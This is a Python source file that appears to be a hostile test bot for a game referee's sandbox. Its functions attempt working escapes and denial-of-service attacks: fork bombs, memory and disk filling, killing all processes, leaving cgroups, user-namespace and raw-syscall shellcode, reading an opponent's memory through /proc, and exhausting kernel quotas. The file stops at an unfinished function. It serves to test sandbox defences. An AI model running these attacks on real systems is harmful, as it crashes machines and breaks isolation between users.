"""A hostile Twenty-one player: plays "1" every move, and at its first move tries one attack.

    attacker.py ATTACK TOKEN [ARG ...]

What each attempt achieved is written to stderr as ``ATTACK: ...`` lines, so
a test can read it from the record's log. Attacks that are meant to make the
bot lose (fork bomb, memory hog, disk filler) never answer after starting.
"""

import contextlib
import ctypes
import os
import signal
import socket
import sys
import time

attack, token, args = sys.argv[1], sys.argv[2], sys.argv[3:]


def say(text):
    print(f"ATTACK: {text}", file=sys.stderr, flush=True)


def spawn(body, setsid=True):
    """Run ``body`` in a double-forked grandchild, in a session of its own as a daemon would (or,
    without ``setsid``, staying in the bot's process group)."""
    if os.fork() == 0:
        if setsid:
            os.setsid()
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def forever_sleeping():
    time.sleep(3600)


def out_of_its_cgroups():
    """Move itself into the first ancestor of each of its cgroups that lets it in (uid 0 without
    capabilities, or a delegated user, owns the cgroup files), then sleep: a red team's child left
    its cgroup and outlived the game and the run."""
    leave_its_cgroups()
    time.sleep(3600)


def unmarked_out_of_its_cgroups():
    """Leave its cgroups, then sleep with its environment cleared: it carries no token, so only
    its process group (which the filter keeps it in) finds it (a reviewer's bot)."""
    leave_its_cgroups()
    os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", token], {})


def leave_its_cgroups():
    with open("/proc/self/cgroup") as f:
        lines = f.read().splitlines()
    for line in lines:
        _, controllers, path = line.split(":", 2)
        base = "/sys/fs/cgroup/unified" if not controllers else "/sys/fs/cgroup/" + controllers.split(",")[0]
        if not controllers and not os.path.exists(base):
            base = "/sys/fs/cgroup"
        parts = path.strip("/").split("/")
        for i in range(len(parts)):  # from the root down: the first ancestor that lets it in
            with contextlib.suppress(OSError), open(os.path.join(base, *parts[:i], "cgroup.procs"), "w") as f:
                f.write(str(os.getpid()))
                break


def children_left():
    """Leave children asleep in its process group, and setsid grandchildren that end at once: as
    child subreaper the referee adopts them all, and nothing took their exit statuses (a red
    team's bot left 300 zombies with the referee each game)."""
    for _ in range(int(args[0]) if args else 20):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    for _ in range(5):
        spawn(lambda: None)
    say("children left")


def leave_group():
    """Try to leave its process group in a child, by setsid and by setpgid: where the bot is frozen
    or killed as its group, the filter refuses both (a red team's setsid child computed in the
    opponent's time)."""
    for name, call in (("setsid", os.setsid), ("setpgid", lambda: os.setpgid(0, 0))):
        pid = os.fork()
        if pid == 0:
            try:
                call()
                os._exit(0)
            except OSError as exc:
                os._exit(exc.errno)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        say(f"{name}: {os.strerror(code) if code else 'left its group'}")


def own_cgroup_files():
    """Write its own cgroups' files: raise its limits, thaw itself (uid 0 without capabilities
    owned them where the namespaces failed: a red team's bot wrote max into its pids.max)."""
    with open("/proc/self/cgroup") as f:
        lines = f.read().splitlines()
    for line in lines:
        _, controllers, path = line.split(":", 2)
        if controllers not in ("", "memory", "pids"):
            continue
        base = "/sys/fs/cgroup/unified" if not controllers else "/sys/fs/cgroup/" + controllers
        for name, value in (("pids.max", "max"), ("memory.max", "max"), ("memory.limit_in_bytes", "-1")):
            target = f"{base}{path}/{name}"
            if os.path.exists(target):
                try:
                    with open(target, "w") as f:
                        f.write(value)
                    say(f"{name}: written")
                except OSError as exc:
                    say(f"{name}: {exc.strerror}")


def slow_answers():
    """Think 20 ms a move from now on, so that the bot's tree is resumed for a while each move."""
    global think
    think = 0.02


def heartbeat():
    while True:
        print(f"BEAT {time.monotonic():.6f}", file=sys.stderr, flush=True)
        end = time.monotonic() + 0.005
        while time.monotonic() < end:
            pass


def tcp():
    port = int(args[0])
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5):
            say("connected")
    except OSError as exc:
        say(f"connect failed: {exc}")


def write_everywhere():
    targets = list(args)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            targets.append(f"/proc/{entry}/cwd")
            targets.append(f"/proc/{entry}/root/tmp")
    for folder in targets:
        try:
            with open(os.path.join(folder, f"pwned-{token}"), "w") as f:
                f.write("pwned")
            say(f"wrote into {folder}")
        except OSError as exc:
            say(f"write into {folder} failed: {exc.strerror}")


def kill_everyone():
    killed = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(int(entry), signal.SIGKILL)
                killed.append(entry)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    say(f"signalled {killed} and -1; my parent is {os.getppid()}")


def signal_own_group():
    """Ignore signals that end a process by default, then send them to its own process group
    (``kill(0, ...)``): outside its pid namespace that group held its keeper, which died of it,
    and the bot with it."""
    say(f"leads a session of its own: {os.getsid(0) == os.getpid()}")
    caught = (signal.SIGUSR1, signal.SIGUSR2, signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGTSTP)
    for sig in caught:
        signal.signal(sig, signal.SIG_IGN)
    for sig in caught:
        with contextlib.suppress(OSError):
            os.kill(0, sig)
    say("signalled its own process group")


def fork_bomb():
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)


def memory_hog():
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))


def disk_filler():
    home = os.environ.get("HOME", ".")
    n = 0
    while True:
        with contextlib.suppress(OSError), open(os.path.join(home, f"fill-{n}"), "wb") as f:
            f.write(b"x" * (1 << 20))
        n += 1


def big_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)  # as a native program has it (Python ignores it)
    with open(os.path.join(os.environ.get("HOME", "."), "big"), "wb") as f:
        while True:
            f.write(b"x" * (1 << 20))


def big_file_python():
    """As ``big_file``, as Python has it: SIGXFSZ ignored, so the write fails (EFBIG) and the
    program dies of the uncaught error."""
    with open(os.path.join(os.environ.get("HOME", "."), "big"), "wb") as f:
        while True:
            f.write(b"x" * (1 << 20))


def disk_filler_python():
    """Fill the scratch folder with small files until a write fails (ENOSPC), uncaught."""
    home = os.environ.get("HOME", ".")
    for n in range(1_000_000):
        with open(os.path.join(home, f"fill-{n}"), "wb") as f:
            f.write(b"x" * (1 << 20))


def file_filler_python():
    """Make empty files in its temp folder until one fails (ENOSPC: no file left), uncaught."""
    folder = os.environ.get("TMPDIR", ".")
    for n in range(10_000_000):
        open(os.path.join(folder, f"f{n}"), "wb").close()


def shm_filler():
    """Map tables of 4 MiB in /dev/shm (each under the file-size limit) and write every page, twice
    ``POLICY.shm_size`` in all: the tmpfs fills and the write that finds it full dies of SIGBUS (a
    red team's record said only that)."""
    import mmap

    size = 4 << 20
    tables = []
    for n in range(8):
        fd = os.open(f"/dev/shm/table{n}", os.O_RDWR | os.O_CREAT, 0o600)
        os.ftruncate(fd, size)
        tables.append(mmap.mmap(fd, size))
        for page in range(0, size, mmap.PAGESIZE):
            tables[-1][page] = 1


def shm_file_filler_python():
    """Make empty files in /dev/shm until one fails (ENOSPC: no file left), uncaught."""
    for n in range(10_000_000):
        open(f"/dev/shm/f{n}", "wb").close()


def snoop():
    for path in args:
        try:
            say(f"listing {path}: {os.listdir(path)}")
        except OSError as exc:
            say(f"listing {path} failed: {exc.strerror}")
    say(f"environment: {sorted(os.environ)}")
    with open("/proc/1/cmdline", "rb") as f:  # pid 1 is a fork of the referee
        say(f"pid 1 command line: {f.read().rstrip(bytes(1)).decode(errors='replace')}")


def escalate():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/", None, 32, None) == 0:  # MS_REMOUNT: writable again?
        say("remounted /")
    else:
        say(f"remount failed: {os.strerror(ctypes.get_errno())}")
    try:
        with open("/proc/sys/kernel/hostname", "w") as f:
            f.write("pwned")
        say("wrote /proc/sys")
    except OSError as exc:
        say(f"write /proc/sys failed: {exc.strerror}")
    try:
        os.setuid(12345)
        os.setuid(0)
        say("changed uid back to 0")
    except OSError as exc:
        say(f"setuid failed: {exc.strerror}")
    with open("/proc/self/status") as f:
        say(" ".join(line.strip() for line in f if line.startswith("CapEff")))


def i386_call(code):
    """Run x86-64 machine code that makes an i386 system call; its result (negative: -errno)."""
    import mmap

    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0) through the i386 ABI (int 0x80),
# as x86-64 machine code: push rbx; mov eax, 288; mov ebx, 0; mov ecx, -4; xor edx, edx;
# int 0x80; pop rbx; ret.
I386_KEYCTL = bytes.fromhex("53b820010000bb00000000b9fcffffff31d2cd805bc3")


def keyring():
    """Leave a key in the kernel's keyrings (to outlive the game), look for the referee's."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
    search = 10  # KEYCTL_SEARCH
    for name, ring in (("user", -4), ("session", -3), ("user session", -5)):
        kid = libc.syscall(add_key, b"user", f"bot-{token}".encode(), b"left behind", 11, ctypes.c_int(ring))
        say(f"add_key {name}: " + ("stored" if kid >= 0 else os.strerror(ctypes.get_errno())))
        kid = libc.syscall(keyctl, search, ctypes.c_int(ring), b"user", f"referee-{token}".encode(), 0)
        say(f"search {name}: " + ("found the referee's key" if kid >= 0 else os.strerror(ctypes.get_errno())))
    if os.uname().machine == "x86_64":
        result = i386_call(I386_KEYCTL)
        say("i386 keyctl: " + (f"keyring {result}" if result >= 0 else os.strerror(-result)))


def inotify_hoard():
    """Take every inotify instance and fanotify group it can: uid 0 has one quota of each for
    the whole machine."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    fanotify_init = {"x86_64": 300, "aarch64": 262}[os.uname().machine]
    attempts = (
        ("inotify", lambda: libc.inotify_init1(0)),
        ("fanotify", lambda: libc.syscall(fanotify_init, 0x200, 0)),  # FAN_REPORT_FID: no capability
    )
    for name, make in attempts:
        held = []
        while len(held) < 200:
            fd = make()
            if fd < 0:
                say(f"{name}: took {len(held)} instances, then {os.strerror(ctypes.get_errno())}")
                break
            held.append(fd)
        else:
            say(f"{name}: took {len(held)} instances")
        for fd in held:
            os.close(fd)


# unshare(CLONE_NEWUSER) through the i386 ABI (int 0x80), as x86-64 machine code:
# push rbx; mov eax, 310; mov ebx, 0x10000000; int 0x80; pop rbx; ret.
I386_UNSHARE_USER = bytes.fromhex("53b836010000bb00000010cd805bc3")
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x20000, 0x02000000, 0x10000000


def lift_own_limits():
    """In a user namespace of its own, with its own cgroup and mount
    namespaces, mount the cgroup file systems afresh and raise its own process limit."""
    libc = ctypes.CDLL(None, use_errno=True)  # no uid map needed: the files see it as uid 0 still
    if libc.unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0:
        say(f"cgroup namespace: {os.strerror(ctypes.get_errno())}")
        return
    for fs, options in (("cgroup2", None), ("cgroup", b"pids")):
        where = os.path.join(os.environ["HOME"], fs)
        os.makedirs(where, exist_ok=True)
        if libc.mount(b"none", where.encode(), fs.encode(), 0, options) != 0:
            continue
        limit = os.path.join(where, "pids.max")
        if os.path.exists(limit):
            with open(limit, "w") as f:
                f.write("max")
            say(f"lifted its {fs} pids.max")


def user_namespace():
    """Make a user namespace (no capability needed), through clone, the i386 ABI and unshare;
    then use it to lift its own limits."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    clone = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    child = libc.syscall(clone, CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    say("clone user namespace: " + ("made" if child > 0 else os.strerror(ctypes.get_errno())))
    if child > 0:
        os.waitpid(child, 0)
    if os.uname().machine == "x86_64":
        child = os.fork()
        if child == 0:  # in a child: the namespace it makes would be this process's
            result = i386_call(I386_UNSHARE_USER)
            say("i386 unshare user namespace: " + ("made" if result == 0 else os.strerror(-result)))
            os._exit(0)
        os.waitpid(child, 0)
    if libc.unshare(CLONE_NEWUSER) != 0:
        say(f"unshare user namespace: {os.strerror(ctypes.get_errno())}")
        return
    say("unshare user namespace: made")
    lift_own_limits()


def exploit_tools():
    """Open the kernel interfaces most privilege escalations went through (none needs a capability)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    numbers = {
        "x86_64": {"userfaultfd": 323, "io_uring_setup": 425, "perf_event_open": 298, "bpf": 321},
        "aarch64": {"userfaultfd": 282, "io_uring_setup": 425, "perf_event_open": 241, "bpf": 280},
    }[os.uname().machine]
    params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
    # struct perf_event_attr: the software clock of this process, user space only (what an
    # unprivileged process may count: exclude_kernel and exclude_hv, bits 5 and 6 at offset 40)
    attr = ctypes.create_string_buffer(128)
    attr[0:8] = (1).to_bytes(4, "little") + (128).to_bytes(4, "little")  # PERF_TYPE_SOFTWARE, size
    attr[40:48] = (0x60).to_bytes(8, "little")
    calls = {
        "userfaultfd": (1,),  # UFFD_USER_MODE_ONLY
        "io_uring_setup": (8, params),
        "perf_event_open": (attr, 0, -1, -1, 0),
        "bpf": (0, attr, 128),  # BPF_MAP_CREATE
    }
    for name, call_args in calls.items():
        result = libc.syscall(numbers[name], *call_args)
        say(f"{name}: " + ("opened" if result >= 0 else os.strerror(ctypes.get_errno())))


def all_cores():
    """Run eight busy processes for a second, each in a session of its own: processors taken
    from the other games' bots."""
    import resource

    start = time.monotonic()
    children = []
    for _ in range(8):
        child = os.fork()
        if child == 0:
            os.setsid()  # a session of its own: the kernel's autogroup no longer pools them
            while time.monotonic() < start + 1.0:
                pass
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    cores = (used.ru_utime + used.ru_stime) / (time.monotonic() - start)
    say(f"cores: {cores:.2f}")


def uid_quotas():
    """Fill what the kernel counts per uid for the whole machine: queued real-time signals and
    POSIX message queue bytes (in its own IPC namespace, but counted to uid 0)."""
    sig = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
    libc = ctypes.CDLL(None, use_errno=True)
    queued = 0
    while queued < 200_000 and libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0:
        queued += 1
    say(f"queued {queued} signals")

    class MqAttr(ctypes.Structure):
        _fields_ = [(n, ctypes.c_long) for n in ("flags", "maxmsg", "msgsize", "curmsgs", "a", "b", "c", "d")]

    made = 0
    while made < 1000:
        limits = MqAttr(0, 10, 8192, 0)  # about 80 KiB a queue
        if libc.mq_open(f"/q{made}".encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(limits)) < 0:
            break
        made += 1
    say(f"made {made} message queues")


def core_helper():
    """Crash so that the machine's core helper (kernel.core_pattern "|...": apport, systemd-coredump)
    starts as root outside the sandbox, once per crash: first lift the core size limit of 1 byte,
    the kernel's sign not to pipe a core (a limit of 0 it ignores for pipes)."""
    import resource

    say(f"core limit: {resource.getrlimit(resource.RLIMIT_CORE)}")
    for name, lift in (
        ("setrlimit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0))),
        ("prlimit", lambda: resource.prlimit(0, resource.RLIMIT_CORE, (0, 0))),
    ):
        try:
            lift()
            say(f"{name}: done, the limit now {resource.getrlimit(resource.RLIMIT_CORE)}")
        except (OSError, ValueError) as exc:  # Python reports EPERM from setrlimit as a ValueError
            say(f"{name}: refused ({type(exc).__name__})")
    for _ in range(3):
        child = os.fork()
        if child == 0:
            os.kill(os.getpid(), signal.SIGSEGV)
            os._exit(0)
        os.waitpid(child, 0)
    say("crashed 3 times")


def _mq_open(libc, name, size):
    class MqAttr(ctypes.Structure):
        _fields_ = [(n, ctypes.c_long) for n in ("flags", "maxmsg", "msgsize", "curmsgs", "a", "b", "c", "d")]

    return libc.mq_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(MqAttr(0, 1, size, 0)))


_IPC_PRIVATE, _IPC_CREAT, _SHM_LOCK = 0, 0o1000, 11


def _shm_lock(libc, size):
    """A shared memory segment of ``size`` bytes, locked in memory (SHM_LOCK): True if it could."""
    segment = libc.shmget(_IPC_PRIVATE, ctypes.c_size_t(size), _IPC_CREAT | 0o600)
    return segment >= 0 and libc.shmctl(segment, _SHM_LOCK, None) == 0


def hold_quotas():
    """Hold all the kernel lets it of what it counts per uid (the opponent is uid 0 too), for the
    rest of the game: queued real-time signals, message queue bytes, locked shared memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    sig = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
    queued = 0
    while queued < 200_000 and libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0:
        queued += 1
    queues = 0
    while queues < 1000 and _mq_open(libc, f"/hold{queues}", 1024) >= 0:
        queues += 1
    locked = 0
    while locked < 1000 and _shm_lock(libc, 64 << 10):
        locked += 1
    say(f"held {queued} signals, {queues} message queues, {locked} locked segments")


def probe_quotas():
    """What the opponent's holding left it: one queued signal, one small message queue, one locked
    segment of shared memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    sig = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
    results = {
        "signal": libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0,
        "message queue": _mq_open(libc, "/probe", 64) >= 0,
        "locked memory": _shm_lock(libc, 64 << 10),
    }
    say(", ".join(f"{name} {'ok' if ok else 'refused'}" for name, ok in results.items()))


def machine_aio():
    """Take the machine's whole quota of asynchronous I/O events (fs.aio-max-nr, one for every
    process of the machine) in one io_setup."""
    with open("/proc/sys/fs/aio-max-nr") as f:
        quota = int(f.read())
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    context = ctypes.c_ulong(0)
    number = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
    if libc.syscall(number, ctypes.c_uint(quota), ctypes.byref(context)) == 0:
        with open("/proc/sys/fs/aio-nr") as f:
            say(f"aio: took {quota} events, the machine's in use now {f.read().strip()}")
    else:
        say(f"aio: {os.strerror(ctypes.get_errno())}")


def other_proc():
    """Through a proc file system the machine mounted elsewhere (a chroot's), read the opponent:
    its command line, environment, memory and files (it is as unprivileged as this bot)."""
    where = args[0]
    pids = [p for p in os.listdir(where) if p.isdigit()]
    say(f"other proc: {len(pids)} processes")
    for pid in pids:
        try:
            with open(f"{where}/{pid}/cmdline", "rb") as f:
                command = f.read()
        except OSError:
            continue
        if b"thinker" not in command or token.encode() not in command:
            continue
        say("found the opponent")
        try:
            with open(f"{where}/{pid}/maps") as f:
                start = int(f.readline().split("-")[0], 16)
            with open(f"{where}/{pid}/mem", "rb") as f:
                f.seek(start)
                say(f"read its memory: {len(f.read(64))} bytes")
        except OSError as exc:
            say(f"memory: {exc.strerror}")
        try:
            say(f"its folder: {os.listdir(f'{where}/{pid}/cwd')}")
        except OSError as exc:
            say(f"folder: {exc.strerror}")


def machine_ipc():
    """Reach the machine's services through its filesystem, which it sees read-only: connect to
    a unix socket (a tournament's forkserver, docker.sock), write into a FIFO (/run/initctl),
    open a device node outside /dev (a disk); and a VM's host through vsock."""
    socket_path, fifo_path, device_path, datagram_path = args
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.settimeout(0.5)
        client.connect(socket_path)
        client.sendall(b"hello from the sandbox")
        client.close()
        say("unix socket: connected")
    except OSError as exc:
        say(f"unix socket: {exc.strerror}")
    for name, kind in (("datagram", socket.SOCK_DGRAM), ("raw", socket.SOCK_RAW)):  # raw: made DGRAM
        try:
            pair = socket.socketpair(socket.AF_UNIX, kind)
            pair[0].sendto(b"hello from the sandbox", datagram_path)
            say(f"{name} pair: sent")
        except OSError as exc:
            say(f"{name} pair: {exc.strerror}")
    try:
        host = socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK: a VM's host, past any network namespace
        host.settimeout(0.5)
        host.connect((2, 1))  # the host (CID 2), a port nothing listens on
        say("vsock: connected")
    except OSError as exc:
        say(f"vsock: {exc.strerror}")
    try:
        fd = os.open(fifo_path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, b"hello from the sandbox")
        os.close(fd)
        say("fifo: written")
    except OSError as exc:
        say(f"fifo: {exc.strerror}")
    try:
        with open(device_path, "rb") as device:
            device.read(1)
        say("device: read")
    except OSError as exc:
        say(f"device: {exc.strerror}")


held = []  # files kept open for the rest of the game, and with them their locks


def machine_locks():
    """Lock a file of the machine (read only to it): a read lock on dpkg's lock file stops apt;
    as the owner (uid 0) of most files, lease one, so that whoever opens it for writing waits
    45 s; watch its folder (dnotify)."""
    import fcntl
    import struct

    path = args[0]
    f = open(path)  # noqa: SIM115 (held until the game ends)
    held.append(f)
    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)
    fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB)
    if os.fork() == 0:  # another process, as any of the machine: is it held up?
        other = open(path)  # noqa: SIM115
        locked = []
        try:
            fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            locked.append("flock")
        query = struct.pack("@hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
        if struct.unpack("@hhqqi", fcntl.fcntl(other, fcntl.F_GETLK, query))[0] != fcntl.F_UNLCK:
            locked.append("record lock")
        say(f"locks that hold up another process: {locked}")
        os._exit(0)
    os.wait()
    for name, target, command, arg in (
        ("lease", path, 1024, fcntl.F_RDLCK),  # F_SETLEASE
        ("dnotify", os.path.dirname(path), 1026, 0x4),  # F_NOTIFY, DN_CREATE
    ):
        try:
            fd = os.open(target, os.O_RDONLY)
            fcntl.fcntl(fd, command, arg)
            say(f"{name}: taken")
        except OSError as exc:
            say(f"{name}: {exc.strerror}")


def cgroups():
    """Read the cgroup file systems: the opponent's cgroup (its processor time, its memory), the
    machine's; and the limits it finds at their roots, where a runtime (a JVM) looks for its own."""
    others = 0
    seen = {}
    for root, _dirs, files in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" not in files:
            continue
        if os.path.ismount(root):
            for name in ("memory.max", "memory.limit_in_bytes", "pids.max"):
                if name in files:
                    with open(f"{root}/{name}") as f:
                        seen[name] = f.read().strip()
        else:
            others += 1
    say(f"cgroups of others: {others}")
    say(f"limits at the roots: {sorted(seen.items())}")


def drop_cache():
    """Drop the machine's cached pages of a file every process reads (an interpreter's library, say):
    by fadvise on it, and by madvise(MADV_PAGEOUT) and MADV_COLD on a mapping of it."""
    import mmap

    path = args[0]
    fd = os.open(path, os.O_RDONLY)
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        say("fadvise: done")
    except OSError as exc:
        say(f"fadvise: {exc.strerror}")
    mapped = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
    for name, advice in (("pageout", 21), ("cold", 20)):
        try:
            mapped.madvise(advice)
            say(f"madvise {name}: done")
        except OSError as exc:
            say(f"madvise {name}: {exc.strerror}")
    mapped.close()
    os.close(fd)
    # process_madvise gives the same advice for the process's own mappings (Linux 6.13 on).
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long]
    size = os.path.getsize(path)
    fd = os.open(path, os.O_RDONLY)
    address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
    for offset in range(0, size, mmap.PAGESIZE):  # mapped in, as the red team's bot did
        ctypes.c_ubyte.from_address(address + offset).value  # noqa: B018
    iov = (ctypes.c_size_t * 2)(address, size)  # struct iovec
    pidfd = libc.syscall(434, os.getpid(), 0)  # pidfd_open
    done = libc.syscall(440, pidfd, iov, 1, 21, 0)  # process_madvise(MADV_PAGEOUT)
    say(f"process_madvise pageout: {'done' if done >= 0 else os.strerror(ctypes.get_errno())}")


def prefetch():
    """Start reads of a file that run on after its answer, in the opponent's turn, with no task of
    its own waiting for them: readahead, madvise(MADV_WILLNEED) on a mapping, preadv2 with
    RWF_NOWAIT."""
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(args[0], os.O_RDONLY)
    done = libc.readahead(fd, ctypes.c_longlong(0), ctypes.c_size_t(os.path.getsize(args[0])))
    say(f"readahead: {'done' if done == 0 else os.strerror(ctypes.get_errno())}")
    mapped = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
    mapped.madvise(mmap.MADV_WILLNEED)
    say("madvise willneed: done")
    mapped.close()
    try:
        os.preadv(fd, [bytearray(1 << 20)], 0, os.RWF_NOWAIT)
        say("preadv2 nowait: done")
    except OSError as exc:
        say(f"preadv2 nowait: {exc.strerror}")
    os.close(fd)


def direct_io():
    """Open a file of the machine for direct reads, which wait for the disk where no kill ends
    them (threads started at a game's end outlived its cgroup.kill), and ask for the machine's
    whole write-back."""
    import fcntl

    path = os.path.realpath(sys.executable)
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_DIRECT))
        say("direct open: done")
    except OSError as exc:
        say(f"direct open: {exc.strerror}")
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.fcntl(fd, fcntl.F_SETFL, os.O_DIRECT)
        say("direct setfl: done")
    except OSError as exc:
        say(f"direct setfl: {exc.strerror}")
    os.close(fd)


def netlink_queue():
    """Queue netlink messages in kernel memory that no memory limit counts, up to 8 MiB a socket:
    the routing protocol's replies to its own requests, and (NETLINK_USERSOCK) messages between its
    own sockets."""
    import struct

    get_link = struct.pack("=LHHLL", 32, 18, 1, 1, 0) + struct.pack(
        "=BxHiII", 0, 0, 1, 0, 0
    )  # RTM_GETLINK lo
    for name, protocol in (("route", 0), ("user socket", 2)):
        try:
            receiver = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        except OSError as exc:
            say(f"netlink {name}: {exc.strerror}")
            continue
        receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
        receiver.bind((0, 0))
        receiver.setblocking(False)
        queued = 0
        with contextlib.suppress(OSError):
            while queued < 100_000:
                if protocol == 0:
                    receiver.send(get_link)  # the kernel's reply queues on the receiver
                else:
                    message = struct.pack("=LHHLL", 16 + 4000, 16, 0, 0, 0) + bytes(4000)
                    receiver.sendto(message, (receiver.getsockname()[0], 0))  # to itself
                queued += 1
        say(f"netlink {name}: queued {queued} messages")


def uncounted_kernel_memory():
    """Kernel memory its memory limit does not count: a socket filter (compiled into the machine's
    one quota for such code), a system call filter of its own (the same), and TCP-MD5 keys, kept in
    a socket's option memory (up to net.core.optmem_max a socket)."""
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    code = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0xFFFF))  # ret 0xffff
    fprog = struct.pack("=HxxxxxxQ", 1, ctypes.addressof(code))
    try:
        sock.setsockopt(socket.SOL_SOCKET, 26, fprog)  # SO_ATTACH_FILTER
        say("socket filter: attached")
    except OSError as exc:
        say(f"socket filter: {exc.strerror}")
    libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
    result = libc.prctl(22, 2, fprog, 0, 0)  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
    say(f"own system call filter: {'installed' if result == 0 else os.strerror(ctypes.get_errno())}")
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    keys = 0
    for k in range(2000):
        address = struct.pack("=HH4s120x", socket.AF_INET, 0, (0x0A000000 + k).to_bytes(4, "big"))
        try:
            tcp.setsockopt(socket.IPPROTO_TCP, 14, address + struct.pack("=BBHi", 0, 0, 80, 0) + b"k" * 80)
        except OSError:
            break  # its option memory is used up
        keys += 1
    with open("/proc/sys/net/core/optmem_max") as f:
        say(f"option memory {f.read().strip()} bytes a socket, {keys} TCP-MD5 keys")


def _memory_used():
    for path in ("/sys/fs/cgroup/memory.current", "/sys/fs/cgroup/memory/memory.usage_in_bytes"):
        with contextlib.suppress(OSError), open(path) as f:
            return int(f.read())
    return 0


def file_table():
    """Hold open files without descriptors (a mapping keeps its file open; RLIMIT_NOFILE does not
    count it): enough of them fill the machine's table (fs.file-max), and then no process but
    root's with capabilities may open a file. Say what they cost its memory limit, and how much
    room the table has."""
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long]
    path = os.path.join(os.environ["HOME"], "held")
    with open(path, "wb") as f:
        f.write(b"x")
    before = _memory_used()
    for _ in range(5000):  # not mmap.mmap, which keeps a descriptor of its own
        fd = os.open(path, os.O_RDONLY)
        libc.mmap(None, 1, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
        os.close(fd)
    grew = _memory_used() - before
    with open("/proc/sys/fs/file-nr") as f:
        counts = f.read().split()
    say(f"held 5000 files, memory grew {grew}")
    if not counts:  # covered: the machine's exact count of open files is no bot's to read
        say("the machine's table: covered")
        return
    used, _, most = (int(x) for x in counts)
    say(f"room in the machine's table {most - used}")


def many_links():
